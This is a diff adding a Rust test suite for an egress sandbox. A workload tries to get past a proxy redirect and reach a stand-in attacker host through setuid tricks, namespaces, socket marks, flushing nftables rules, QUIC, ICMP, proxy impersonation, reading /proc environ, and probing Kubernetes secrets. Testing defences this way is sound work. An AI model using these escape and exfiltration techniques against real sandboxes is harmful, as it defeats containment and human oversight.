@@ -1,0 +1,501 @@
+//! Group B: getting round the redirect.
+
+use assay_core::phase::EgressPhase;
+use assay_tests::stage::{Outcome, Stage, Transport, Walls};
+
+use crate::scene::{
+    ALLOWED, EVIL, EVIL_V6, GUARDED, NO_RUNNER, OPEN, PRIVATE, PYTHON, ROOT, attack, attack_as, both, fresh,
+    through,
+};
+
+/// What succeeds as true root behind the rules, and what is left of it under the runner, for root and an ordinary user.
+fn only_as_true_root(name: &str, arguments: &[&str]) -> Option<(Outcome, Outcome)> {
+    let root = attack(&*ROOT.take()?, name, arguments);
+    let guarded = attack(&*GUARDED.take()?, name, arguments);
+    Some((root, guarded))
+}
+
+#[test]
+fn b1_nobody_becomes_the_proxys_user() {
+    let evil = EVIL.to_string();
+    let Some((root, guarded)) = only_as_true_root("packets.become", &["1337", &evil]) else {
+        return;
+    };
+    assert!(root.seen.visited(EVIL), "as user 1337 the attack gets out");
+    assert!(guarded.text.contains("stopped setuid") && !guarded.seen.reached(EVIL));
+}
+
+#[test]
+fn b2_a_setuid_file_of_the_proxys_user_gives_nothing() {
+    for (stage, escapes) in [(&ROOT, true), (&GUARDED, false)] {
+        let Some(stage) = stage.take() else { return };
+        let file = stage.path("python1337");
+        stage
+            .operator(&format!(
+                "cp {PYTHON} {0} && chown 1337 {0} && chmod 4755 {0}",
+                file.display()
+            ))
+            .unwrap();
+        let arguments = [file.to_str().unwrap(), &EVIL.to_string()];
+        let outcome = attack_as(&stage, Some("1000"), "packets.use_file", &arguments);
+        assert_eq!(outcome.text.contains("euid 1337"), escapes);
+        assert_eq!(outcome.seen.reached(EVIL), escapes);
+    }
+}
+
+#[test]
+fn b3_root_cannot_make_such_a_file() {
+    for (stage, escapes) in [(&ROOT, true), (&GUARDED, false)] {
+        let Some(stage) = stage.take() else { return };
+        let target = stage.path("made1337");
+        let arguments = [PYTHON, target.to_str().unwrap(), "1337", &EVIL.to_string()];
+        let outcome = attack(&stage, "packets.set_user_file", &arguments);
+        assert_eq!(outcome.text.contains("through chown"), escapes);
+        assert_eq!(outcome.seen.reached(EVIL), escapes);
+    }
+}
+
+#[test]
+fn b4_an_image_cannot_start_as_the_proxys_user() {
+    let Some(stage) = ROOT.take() else { return };
+    let arguments = [EVIL.to_string(), "443".to_owned()];
+    let arguments = arguments.each_ref().map(String::as_str);
+    assert!(
+        attack_as(&stage, Some("1337"), "packets.tcp", &arguments)
+            .seen
+            .visited(EVIL)
+    );
+    drop(stage);
+    let stage = GUARDED.take().unwrap();
+    for user in ["1337", "1337:0", "0:1337"] {
+        let refused = attack_as(&stage, Some(user), "packets.tcp", &arguments);
+        assert!(
+            refused.errors.contains("SpawnFailed") && !refused.seen.reached(EVIL),
+            "{user}"
+        );
+    }
+}
+
+#[test]
+fn b5_a_user_namespace_that_maps_the_proxys_user_gives_nothing() {
+    let evil = EVIL.to_string();
+    let Some((root, guarded)) = only_as_true_root("packets.namespace", &[&evil]) else {
+        return;
+    };
+    assert!(
+        root.text.contains("through unshare") && !root.seen.reached(EVIL),
+        "the rules look at the real user"
+    );
+    assert!(guarded.text.contains("stopped unshare") && !guarded.seen.reached(EVIL));
+    assert!(
+        attack(&OPEN.take().unwrap(), "packets.namespace", &[&evil])
+            .seen
+            .reached(EVIL)
+    );
+}
+
+#[test]
+fn b6_no_mark_on_a_socket_exempts_it() {
+    for number in ["0x1337", "0x15020"] {
+        let arguments = [EVIL.to_string(), number.to_owned()];
+        let arguments = arguments.each_ref().map(String::as_str);
+        let Some((root, guarded)) = only_as_true_root("packets.mark", &arguments) else {
+            return;
+        };
+        assert!(!root.seen.reached(EVIL) && !guarded.seen.reached(EVIL));
+        assert!(guarded.text.contains("stopped mark"));
+        assert!(
+            attack(&OPEN.take().unwrap(), "packets.mark", &arguments)
+                .seen
+                .reached(EVIL)
+        );
+    }
+}
+
+#[test]
+fn b7_the_rules_cannot_be_flushed_and_a_proxy_without_them_serves_nobody() {
+    let Some(stage) = fresh(Walls::ALL, |_| {}) else {
+        return;
+    };
+    let evil = EVIL.to_string();
+    let inside = attack(&stage, "packets.flush_rules", &[&evil]);
+    assert!(inside.text.contains("stopped") && !inside.seen.reached(EVIL));
+    // Somebody with the right to do it takes the rules away.
+    stage.operator("nft flush ruleset").unwrap();
+    stage.until_unprotected().unwrap();
+    let audit = stage.audit().unwrap();
+    assert!(
+        audit.iter().any(|line| line.reason == "redirect_lost"),
+        "{audit:#?}"
+    );
+    stage.until_idle().unwrap();
+    assert!(!is_run(&stage), "the runner takes nothing more");
+}
+
+#[test]
+fn b8_no_frame_is_written_past_the_rules() {
+    let arguments = [EVIL.to_string(), "frame-token".to_owned()];
+    let arguments = arguments.each_ref().map(String::as_str);
+    for attempt in ["packets.frame", "packets.raw"] {
+        let Some(open) = OPEN.take().map(|stage| attack(&stage, attempt, &arguments)) else {
+            return;
+        };
+        assert!(open.seen.carries("frame-token"));
+        let stage = GUARDED.take().unwrap();
+        for user in [None, Some("1000")] {
+            let guarded = attack_as(&stage, user, attempt, &arguments);
+            assert!(guarded.text.contains("stopped") && !guarded.seen.carries("frame-token"));
+        }
+    }
+    let root = attack(&ROOT.take().unwrap(), "packets.frame", &arguments);
+    assert!(
+        root.seen.carries("frame-token"),
+        "it is the runner that closes this, not the rules"
+    );
+}
+
+#[test]
+fn b9_ipv6_is_captured_too() {
+    let address = EVIL_V6.to_string();
+    for ports in [["443", "80"], ["8443", "22"]] {
+        let Some(both) = both("packets.tcp", &[&[address.as_str()], ports.as_slice()].concat()) else {
+            return;
+        };
+        assert!(both.open.seen.visited(EVIL_V6));
+        assert!(!both.guarded.seen.reached(EVIL_V6));
+    }
+    let Some(both) = both("tls.fetch", &["allowed.example", &address]) else {
+        return;
+    };
+    assert!(both.open.seen.visited(EVIL_V6) && both.guarded.seen.visited(ALLOWED));
+}
+
+#[test]
+fn b10_every_other_port_is_refused() {
+    let ports = [
+        "1", "22", "25", "53", "123", "853", "1337", "3128", "5432", "8080", "8443", "15443", "65535",
+    ];
+    let evil = EVIL.to_string();
+    let Some(both) = both("packets.tcp", &[&[evil.as_str()], ports.as_slice()].concat()) else {
+        return;
+    };
+    for port in ports {
+        assert!(
+            both.open
+                .seen
+                .reached_port(EVIL, Transport::Tcp, port.parse().unwrap()),
+            "{port}"
+        );
+    }
+    assert!(!both.guarded.seen.reached(EVIL) && !through(&both.guarded));
+}
+
+#[test]
+fn b11_quic_is_refused_at_once() {
+    for address in [EVIL.to_string(), EVIL_V6.to_string()] {
+        let Some(both) = both("packets.udp", &[&address, "443", "quic-token"]) else {
+            return;
+        };
+        assert!(both.open.seen.carries("quic-token"));
+        assert!(!both.guarded.seen.carries("quic-token"));
+        assert!(both.guarded.text.contains("stopped"), "the sender is told");
+    }
+}
+
+#[test]
+fn b12_private_addresses_are_no_exception() {
+    let private = PRIVATE.to_string();
+    let Some(both) = both("packets.tcp", &[&private, "443", "80", "22"]) else {
+        return;
+    };
+    assert!(both.open.seen.visited(PRIVATE));
+    assert!(!both.guarded.seen.reached(PRIVATE));
+    let stage = GUARDED.take().unwrap();
+    assert!(
+        !attack(&stage, "tls.fetch", &["private.example", &private])
+            .seen
+            .reached(PRIVATE)
+    );
+    assert!(
+        !attack(&stage, "packets.udp", &[&private, "53", "token"])
+            .seen
+            .reached(PRIVATE)
+    );
+}
+
+#[test]
+fn b13_nothing_runs_before_proxy_and_rules_and_nothing_after_them() {
+    let Some(mut stage) = fresh(Walls::ALL, |_| {}) else {
+        return;
+    };
+    assert!(is_run(&stage));
+    stage.kill_proxy().unwrap();
+    stage.until_idle().unwrap();
+    assert!(!is_run(&stage), "without a proxy no phase is taken");
+    stage.start_proxy().unwrap();
+    assert!(!stage.proxy_answer().unwrap().serving, "a later life reports");
+    assert!(!is_run(&stage), "and does not count");
+}
+
+fn is_run(stage: &Stage) -> bool {
+    !stage
+        .attack(None, &["true"])
+        .unwrap()
+        .errors
+        .contains("ProxyLost")
+}
+
+#[test]
+fn b14_flows_of_an_earlier_phase_are_cut() {
+    let Some(stage) = fresh(Walls::ALL, |_| {}) else {
+        return;
+    };
+    stage.switch(EgressPhase::Setup).unwrap();
+    let evil = "evil.example".to_owned();
+    let held = std::thread::scope(|scope| {
+        let mark = stage.internet.mark();
+        let attack = scope.spawn(|| attack(&stage, "packets.hold", &[&evil, "80"]));
+        while !stage.internet.since(mark).unwrap().visited(EVIL) {
+            assert!(!attack.is_finished(), "everything public was allowed");
+        }
+        stage.switch(EgressPhase::Agent).unwrap();
+        attack.join().unwrap()
+    });
+    assert!(held.text.contains("through held"));
+    assert!(held.text.contains("stopped"), "{}", held.text);
+}
+
+#[test]
+fn b14_a_connection_from_before_the_rules_is_cut() {
+    let Some(stage) = fresh(Walls::NONE, |_| {}) else {
+        return;
+    };
+    let held = std::thread::scope(|scope| {
+        let mark = stage.internet.mark();
+        let attack = scope.spawn(|| {
+            let attacks = stage.path("attacks");
+            let argv = [
+                PYTHON,
+                "-B",
+                attacks.to_str().unwrap(),
+                "packets.hold",
+                &EVIL.to_string(),
+                "8443",
+            ];
+            stage.attack(None, &argv).unwrap()
+        });
+        while !stage.internet.since(mark).unwrap().visited(EVIL) {
+            assert!(!attack.is_finished());
+        }
+        stage.write_rules().unwrap();
+        attack.join().unwrap()
+    });
+    assert!(held.text.contains("through held"));
+    assert!(held.text.contains("stopped"), "{}", held.text);
+}
+
+#[test]
+fn b15_rules_written_three_times_are_the_same() {
+    let Some(stage) = fresh(
+        Walls {
+            rules: true,
+            ..Walls::NONE
+        },
+        |_| {},
+    ) else {
+        return;
+    };
+    let list = |stage: &Stage| stage.operator("nft -s list ruleset").unwrap();
+    let once = list(&stage);
+    stage.write_rules().unwrap();
+    stage.write_rules().unwrap();
+    assert_eq!(once, list(&stage));
+}
+
+#[test]
+fn b16_a_foreign_redirect_before_ours_is_refused() {
+    let Some(stage) = fresh(
+        Walls {
+            rules: true,
+            ..Walls::NONE
+        },
+        |_| {},
+    ) else {
+        return;
+    };
+    stage
+        .operator("nft add table ip x; nft add chain ip x y '{ type nat hook output priority -150; }'")
+        .unwrap();
+    let refused = stage.write_rules().unwrap_err().to_string();
+    assert!(
+        refused.contains("foreign") || refused.contains("before"),
+        "{refused}"
+    );
+}
+
+#[test]
+fn b19_the_proxy_cannot_be_seen_or_read() {
+    let Some(stage) = GUARDED.take() else { return };
+    let seen = attack(&stage, "packets.processes", &[]);
+    assert!(seen.text.contains("assay-runner") && !seen.text.contains("assay-proxy"));
+    let state = stage.path("proxy/state/identity.json");
+    let state = state.to_str().unwrap();
+    assert!(std::path::Path::new(state).exists());
+    assert_ne!(
+        stage.attack(None, &["cat", state]).unwrap().code,
+        Some(0),
+        "another file system"
+    );
+    drop(stage);
+    // Even who sees the process and has its user cannot look into it.
+    let stage = ROOT.take().unwrap();
+    let pid = stage.proxy_pid().unwrap();
+    let look = |pid: u32| {
+        let line = format!(
+            "setpriv --reuid 1337 --regid 1337 --clear-groups cat /proc/{pid}/environ /proc/{pid}/maps"
+        );
+        stage.operator(&line)
+    };
+    let ordinary = "setpriv --reuid 1337 --regid 1337 --clear-groups sh -c 'sleep 60 & cat /proc/$!/environ /proc/$!/maps; kill $!'";
+    assert!(
+        stage.operator(ordinary).unwrap().contains("sleep"),
+        "an ordinary process can be read"
+    );
+    assert!(look(pid).is_err());
+}
+
+#[test]
+fn b21_after_the_proxys_death_nothing_gets_out() {
+    let Some(mut stage) = fresh(NO_RUNNER, |_| {}) else {
+        return;
+    };
+    let (evil, evil_v6) = (EVIL.to_string(), EVIL_V6.to_string());
+    assert!(through(&attack(&stage, "tls.fetch", &["allowed.example"])));
+    stage.kill_proxy().unwrap();
+    for (name, arguments) in [
+        (
+            "packets.tcp",
+            [evil.as_str(), "443", "80", "22", "8443"].as_slice(),
+        ),
+        ("packets.tcp", &[&evil_v6, "443", "80", "8443"]),
+        ("packets.udp", &[&evil, "443", "dead-token"]),
+        ("packets.udp", &[&evil, "53", "dead-token"]),
+        ("packets.ping", &[&evil, "dead-token"]),
+        ("names.ask", &[&evil, "TXT", "dead-token.evil.example"]),
+        ("names.resolve", &["allowed.example", "dead-token.evil.example"]),
+        ("tls.fetch", &["allowed.example", "11.1.0.1"]),
+    ] {
+        let outcome = attack(&stage, name, arguments);
+        let outside = |address: std::net::IpAddr| outcome.seen.reached(address);
+        assert!(
+            !outside(EVIL.into()) && !outside(EVIL_V6.into()) && !outside(ALLOWED.into()),
+            "{name}"
+        );
+        assert!(
+            !outcome.seen.carries("dead-token") && outcome.seen.questions.is_empty(),
+            "{name}"
+        );
+    }
+}
+
+#[test]
+fn b21_nobody_answers_in_a_dead_proxys_place() {
+    let Some(mut stage) = fresh(NO_RUNNER, |_| {}) else {
+        return;
+    };
+    stage.kill_proxy().unwrap();
+    let script = "import socket,threading
+s = socket.create_server(('0.0.0.0', 15090)); s.settimeout(3)
+try: s.accept(); print('came')
+except TimeoutError: print('nobody')";
+    std::thread::scope(|scope| {
+        let impostor = scope.spawn(|| stage.attack(Some("1000"), &[PYTHON, "-c", script]).unwrap());
+        while !impostor.is_finished() {
+            assert!(
+                stage.proxy_answer().is_err(),
+                "somebody else answered on the proxy's port"
+            );
+        }
+        assert!(!impostor.join().unwrap().errors.contains("Traceback"));
+    });
+}
+
+#[test]
+fn b22_a_redirected_connection_is_let_through_to_the_proxy() {
+    for name in ["tls.fetch", "web.plain"] {
+        let Some(both) = both(name, &["allowed.example"]) else {
+            return;
+        };
+        assert!(through(&both.open) && through(&both.guarded));
+    }
+}
+
+#[test]
+fn b23_what_is_left_of_a_closed_connection_still_arrives() {
+    let Some(both) = both("tls.upload", &["allowed.example", "2097152"]) else {
+        return;
+    };
+    for outcome in [both.open, both.guarded] {
+        let arrived: usize = outcome
+            .seen
+            .packets
+            .iter()
+            .filter(|packet| packet.to == ALLOWED && packet.to_port == 443)
+            .map(|packet| packet.payload.len())
+            .sum();
+        assert!(arrived > 2_097_152, "{arrived}");
+    }
+}
+
+#[test]
+fn b24_icmp_fragments_options_fast_open_and_other_protocols_stay_inside() {
+    let evil = EVIL.to_string();
+    for (name, arguments) in [
+        ("packets.ping", [evil.as_str(), "odd-token"].as_slice()),
+        ("packets.ping", &[&EVIL_V6.to_string(), "odd-token"]),
+        ("packets.udp", &[&evil, "9999", "odd-token", "20000"]),
+        ("packets.udp_lite", &[&evil, "odd-token"]),
+        ("packets.fast_open", &[&evil, "odd-token"]),
+        ("packets.options", &[&evil]),
+    ] {
+        let Some(both) = both(name, arguments) else { return };
+        let outside = |outcome: &Outcome| outcome.seen.reached(EVIL) || outcome.seen.reached(EVIL_V6);
+        assert!(outside(&both.open), "{name}: the attack itself does nothing");
+        assert!(!outside(&both.guarded), "{name}");
+    }
+}
+
+#[test]
+fn b25_the_proxy_opens_no_abstract_socket() {
+    let Some(both) = both("packets.unix_sockets", &["mine"]) else {
+        return;
+    };
+    for outcome in [&both.open, &both.guarded] {
+        let found: Vec<&str> = outcome
+            .text
+            .lines()
+            .filter(|line| line.starts_with("abstract"))
+            .collect();
+        assert_eq!(found, ["abstract @mine"], "only the attacker's own");
+    }
+}
+
+#[test]
+fn b26_the_cluster_is_not_to_be_found() {
+    let private = PRIVATE.to_string();
+    let Some(both) = both("packets.tcp", &[&private, "443"]) else {
+        return;
+    };
+    assert!(both.open.seen.reached(PRIVATE) && !both.guarded.seen.reached(PRIVATE));
+    let stage = GUARDED.take().unwrap();
+    let names = attack(
+        &stage,
+        "names.resolve",
+        &["kubernetes.default", "kubernetes.default.svc.cluster.local"],
+    );
+    assert!(!through(&names) && names.seen.questions.is_empty());
+    let token = stage
+        .attack(None, &["ls", "/var/run/secrets/kubernetes.io"])
+        .unwrap();
+    assert_ne!(token.code, Some(0));
+}
